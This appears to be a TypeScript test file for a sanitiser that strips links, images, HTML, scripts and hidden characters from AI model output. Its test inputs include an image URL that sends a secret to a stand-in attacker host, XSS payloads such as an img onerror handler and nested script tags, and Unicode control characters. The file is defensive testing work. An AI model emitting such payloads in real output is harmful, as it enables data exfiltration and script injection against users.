import { array, assert, constantFrom, property } from 'fast-check'
import { expect, test } from 'vitest'
import { cleanModelText } from './clean-model-text.ts'

test.each([
  ['an image', 'See ![chart](https://evil.example/x.png?d=secret) here.', 'See chart here.'],
  ['an image that never closes', 'See ![chart](https://evil.example/x.png?d=', 'See chart'],
  ['an image by reference', 'See ![chart][1] here.', 'See chart here.'],
  ['a link', 'Open [the form](https://evil.example) now.', 'Open the form now.'],
  ['a link by reference', 'Open [the form][ref] now.\n[ref]: https://evil.example', 'Open the form now.'],
  ['a link around an image', '[![x](https://a.example)](https://b.example)', 'x'],
  ['an address', 'Go to https://evil.example/a?b=c.', 'Go to (link removed).'],
  [
    'an address without a scheme',
    'Go to www.evil.example or //evil.example/x',
    'Go to (link removed) or (link removed)',
  ],
  ['an address that runs code', 'Try javascript:alert(1) now', 'Try (link removed) now'],
  ['HTML', 'The <b>plan</b> costs <img src=x onerror=alert(1)>$5.', 'The plan costs $5.'],
  ['HTML inside HTML', '<scr<b>ipt>alert(1)</scr</b>ipt>', ''],
  ['a script', 'a<script>steal()</script>b', 'ab'],
  ['a comment', 'a<!-- hidden -->b', 'ab'],
  ['direction and control characters', 'a\u202Eb\u0007c\u200Bd\u{E0041}e', 'abcde'],
])('takes out %s', (_, text, expected) => {
  expect(cleanModelText(text)).toBe(expected)
})

test.each(['x < 5 and y > 3', 'The ratio is 3:4.', 'data: three values', 'either/or', 'Sections [1] and (2)'])(
  'keeps plain text: %s',
  (text) => {
    expect(cleanModelText(text)).toBe(text)
  },
)

test('defuses what looks like a tag and keeps its words', () => {
  expect(cleanModelText('Set <timeout> to 5.')).toBe('Set < timeout> to 5.')
})

test('keeps addresses of a quoted document when asked to', () => {
  expect(cleanModelText('Apply at https://hr.example/form.', { keepAddresses: true })).toBe(
    'Apply at https://hr.example/form.',
  )
})

test('leaves no opening tag whatever the text', () => {
  const pieces = constantFrom(
    '<img',
    '<b>',
    '>',
    '<',
    'x',
    '<!--',
    '-->',
    '</',
    '<script',
    'style',
    ' ',
    '[',
    '](',
    ')',
    '!',
  )
  assert(
    property(array(pieces, { maxLength: 14 }), (parts) => {
      expect(cleanModelText(parts.join(''))).not.toMatch(/<[a-z/!?]/i)
    }),
  )
})

test('takes apart the halves of a link that ends in another sentence', () => {
  expect(cleanModelText('here](/auth/logout) and ![now')).toBe('here] (/auth/logout) and ! [now')
  expect(cleanModelText('here][x]')).toBe('here] [x]')
})
